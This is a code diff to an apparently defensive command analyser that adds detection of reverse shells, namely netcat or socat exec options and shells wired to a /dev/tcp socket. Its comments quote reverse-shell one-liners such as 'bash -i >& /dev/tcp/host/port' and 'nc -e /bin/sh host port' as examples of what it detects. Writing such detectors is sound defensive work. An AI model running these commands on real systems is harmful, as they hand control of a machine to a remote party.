@@ -1,8 +1,8 @@
 import type { Command } from './commands.ts';
 import type { Fetched } from './fetched.ts';
 import { hostAmong, UNPACKED } from './fetched.ts';
-import { baseName, hostOfUrl } from './files.ts';
-import { DECODERS, FETCHERS, INTERPRETERS, SAYS, STARTERS } from './programs.ts';
+import { baseName, hostOfUrl, socketHost } from './files.ts';
+import { DECODERS, FETCHERS, INTERPRETERS, JOINERS, SAYS, STARTERS } from './programs.ts';
 
 /**
  * Does a command run what came from elsewhere: a file fetched before, what a pipe or a substitution fetches or decodes?
@@ -10,6 +10,8 @@ import { DECODERS, FETCHERS, INTERPRETERS, SAYS, STARTERS } from './programs.ts'
  */
 export function fetchedAndRun(command: Command, fetched: Fetched): { host: string | null } | null {
   const { program, words } = command;
+  const led = ledFromAfar(command);
+  if (led) return led;
   const file = ranFile(command);
   if (file !== null) {
     const known = fetched.has(baseName(file)) ? baseName(file) : isRelative(file) ? UNPACKED : null;
@@ -26,10 +28,36 @@ export function fetchedAndRun(command: Command, fetched: Fetched): { host: strin
   return fetchesItself(command);
 }
 
+/** Has another machine the say, line by line? `bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh host port`, `sh | nc host port`. */
+function ledFromAfar(command: Command): { host: string | null } | null {
+  const { from, program, reads, words, writes } = command;
+  if (JOINERS.has(program)) {
+    const hands = words.some(({ value }) => HANDS.test(value));
+    return hands || from.some(isOpenShell) ? { host: hostAmong(command) ?? hostAfter(words) } : null;
+  }
+  const socket = [...writes, ...reads].find((path) => socketHost(path) !== null);
+  return socket !== undefined && isOpenShell(command) ? { host: socketHost(socket) } : null;
+}
+
+/** Options of nc, and addresses of socat, that give the connection a program. */
+const HANDS = /^-(?:[a-zA-Z]{0,6}[ec]|-exec|-sh-exec|-lua-exec)$|^(?:exec|system|shell):/i;
+
+/** A shell that takes its lines as they come. */
+export const isOpenShell = (command: Command): boolean =>
+  SHELLS.has(command.program) && ranFile(command) === null && readsProgram(command);
+
+const SHELLS: ReadonlySet<string> = new Set('sh bash zsh dash ksh ash fish pwsh powershell cmd'.split(' '));
+
+/** The host of `nc -e /bin/sh host 4444`: the word before the port. */
+function hostAfter(words: Command['words']): string | null {
+  const port = words.findIndex(({ value }, at) => at > 0 && /^\d{1,5}$/.test(value));
+  return port < 0 ? null : words[port - 1]!.value;
+}
+
 const isRelative = (file: string): boolean => file.startsWith('./') || (file.includes('/') && !file.startsWith('/'));
 
 /** The file that a command runs: itself, or the first word of an interpreter that is no option. */
-function ranFile(command: Command): string | null {
+export function ranFile(command: Command): string | null {
   const { program, words, written } = command;
   if (!INTERPRETERS.has(program) && !STARTERS.has(program)) return /[/\\]/.test(written) ? written : program;
   const first = words.find((word) => !/^[-/]/.test(word.value) || word.value.includes('/'));
